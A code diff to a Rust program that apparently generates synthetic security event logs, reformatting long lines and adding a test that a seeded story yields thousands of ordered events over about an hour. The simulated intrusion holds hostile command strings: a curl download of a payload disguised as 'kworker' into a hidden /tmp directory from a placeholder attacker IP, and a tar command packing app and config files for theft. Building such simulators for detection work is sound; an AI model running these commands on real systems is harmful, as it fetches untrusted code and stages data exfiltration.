@@ -89,7 +89,11 @@ impl Telling {
     fn day_to_day(&mut self, begin: u64) {
         let user = *self.random.pick(&PEOPLE);
         let host = *self.random.pick(&HOSTS);
-        let address = format!("10.1.{}.{}", self.random.between(0, 3), self.random.between(2, 250));
+        let address = format!(
+            "10.1.{}.{}",
+            self.random.between(0, 3),
+            self.random.between(2, 250)
+        );
         let contact = self.contact();
         let mut login = Login {
             step: &contact,
@@ -200,12 +204,20 @@ impl Telling {
 
         let step = self.process_step(&shell);
         let download = "curl -so /tmp/.x/kworker http://203.0.113.66/k";
-        self.run(&step, ("/usr/bin/curl", download, "/bin/bash"), at + 40 * SECOND);
+        self.run(
+            &step,
+            ("/usr/bin/curl", download, "/bin/bash"),
+            at + 40 * SECOND,
+        );
         self.flow(&step, VICTIM, (ATTACKER, 80), 420, at + 41 * SECOND);
 
         let worker = self.process_step(&shell);
         let image = "/tmp/.x/kworker";
-        self.run(&worker, (image, "/tmp/.x/kworker -q", "/bin/bash"), at + 75 * SECOND);
+        self.run(
+            &worker,
+            (image, "/tmp/.x/kworker -q", "/bin/bash"),
+            at + 75 * SECOND,
+        );
 
         let step = self.process_step(&worker);
         let pack = "tar czf /tmp/.x/s.tgz /srv/app /etc/app";
@@ -235,7 +247,14 @@ impl Telling {
         step
     }
 
-    fn process_below(&mut self, parent: &Step, image: &str, host: &str, user: &str, at: u64) -> Step {
+    fn process_below(
+        &mut self,
+        parent: &Step,
+        image: &str,
+        host: &str,
+        user: &str,
+        at: u64,
+    ) -> Step {
         let step = self.process_step(parent);
         let process = Process {
             step: &step,
@@ -275,5 +294,25 @@ impl Telling {
 
     fn plan(&mut self, at: u64, event: Value) {
         self.planned.push(Planned { at, event });
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn a_story_is_an_hour_of_thousands_of_events_in_order_and_its_seed_decides_it() {
+        let told = story(7);
+        assert!(told.events.len() > 2_000, "{}", told.events.len());
+        assert!(told.events.is_sorted_by_key(|(time, _)| *time));
+        let (first, last) = (
+            told.events.first().unwrap().0,
+            told.events.last().unwrap().0,
+        );
+        let minutes = last.since(first).as_nanos() / 60_000_000_000;
+        assert!((59..75).contains(&minutes), "{minutes} minutes");
+        assert_eq!(told.events, story(7).events);
+        assert_ne!(told.events, story(8).events);
     }
 }
